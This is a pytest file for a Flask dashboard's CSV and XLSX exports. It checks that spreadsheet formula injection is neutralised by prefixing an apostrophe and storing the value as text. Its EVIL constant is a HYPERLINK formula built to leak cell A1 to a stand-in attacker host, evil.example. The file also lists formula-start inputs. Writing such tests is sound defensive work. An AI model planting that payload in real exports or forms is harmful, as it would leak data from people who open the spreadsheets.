"""CSV and XLSX exports never hand a spreadsheet a formula (OWASP CSV
injection): text starting with = + - @, a tab or a carriage return gets a
leading apostrophe in both formats, and XLSX stores it as text; numbers stay
numbers, negative ones too."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import openpyxl
import pytest
import time_machine
from flask import Flask

from dashboard.queries.kpi_tables import Column, Table, TableRow
from dashboard.views import exports
from tests.conftest import T0
from tests.factories import later
from tests.http.helpers import AT_UTAN_KAYU, HTMX, add_ticket, client_as, make_town

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik untuk detail laporan")'


@pytest.fixture(autouse=True)
def frozen() -> Iterator[None]:
    with time_machine.travel(later(T0, hours=1), tick=False):
        yield


def test_a_formula_typed_as_a_reveal_reason_is_neutralised_in_both_downloads(
    sqlite_app: Flask,
) -> None:
    make_town(sqlite_app)
    tid = add_ticket(sqlite_app, **AT_UTAN_KAYU, reporter={"name": "Siti", "confidential": True})
    mro = client_as(sqlite_app, "mro")
    assert (
        mro.post(f"/tickets/{tid}/reporter", data={"reason": EVIL}, headers=HTMX).status_code == 200
    )
    admin = client_as(sqlite_app, "admin")

    csv_response = admin.get("/admin/access-log?export=csv")
    assert csv_response.status_code == 200
    rows = list(csv.reader(io.StringIO(csv_response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][rows[0].index("alasan")] == "'" + EVIL

    xlsx_response = admin.get("/admin/access-log?export=xlsx")
    assert xlsx_response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_response.data)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    reason = [c for c in cells if "HYPERLINK" in c.value]
    assert [(c.value, c.data_type) for c in reason] == [("'" + EVIL, "s")]
    assert not [c for c in cells if c.data_type == "f"]


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1", "Jl. Pramuka -12"]
    table = Table(
        name="t",
        title="=title",
        subtitle="-sub",
        columns=(
            Column("name", "Nama"),
            Column("delta", "Δ", kind="delta_num"),
            Column("n", "N", "int"),
        ),
        rows=[TableRow((text, -1.5, -3)) for text in texts],
        note="@note",
    )

    csv_rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8-sig"))))
    assert [r[0] for r in csv_rows[1:]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "'  =1",
        "'＝1",
        "Jl. Pramuka -12",
    ]
    assert {(r[1], r[2]) for r in csv_rows[1:]} == {("-1.50", "-3")}

    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(table))).active
    assert sheet is not None
    assert sheet["A1"].value == "'=title" and sheet["A2"].value == "'-sub"
    body = list(sheet.iter_rows(min_row=exports.HEADER_ROW + 1, max_row=exports.HEADER_ROW + 9))
    # (XML reads a stored carriage return back as a line feed.)
    assert [r[0].value for r in body] == [r[0].replace("\r", "\n") for r in csv_rows[1:]]
    assert {(r[1].value, r[1].data_type, r[2].value, r[2].data_type) for r in body} == {
        (-1.5, "n", -3, "n")
    }
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
